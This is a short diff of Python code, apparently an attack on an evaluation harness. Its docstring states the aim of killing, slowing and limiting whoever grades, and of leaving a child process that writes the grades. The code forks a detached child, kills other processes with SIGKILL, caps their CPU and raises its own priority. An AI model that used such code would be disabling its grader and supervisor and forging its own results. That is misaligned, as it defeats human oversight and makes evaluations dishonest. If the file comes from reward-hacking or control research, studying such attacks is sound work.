@@ -1,6 +1,8 @@
-"""Kill the supervisor and the examiner, and leave a child that writes the grades once they are there."""
+"""Kill, slow and limit whoever grades, and leave a child that writes the grades once they are there."""
 
 # %%
+import resource
+
 if os.fork() == 0:
     os.setsid()
     for _ in range(3000):
@@ -10,4 +12,8 @@ if os.fork() == 0:
         except OSError:
             time.sleep(0.1)
     os._exit(0)
-attack(*[lambda pid=pid: os.kill(pid, signal.SIGKILL) for pid in above() if pid != PID])
+attack(
+    *each(others(), lambda pid: os.kill(pid, signal.SIGKILL)),
+    *each(others(), lambda pid: resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1))),
+    *each([PID, os.getppid() or PID], lambda pid: os.setpriority(os.PRIO_PROCESS, pid, -5)),
+)
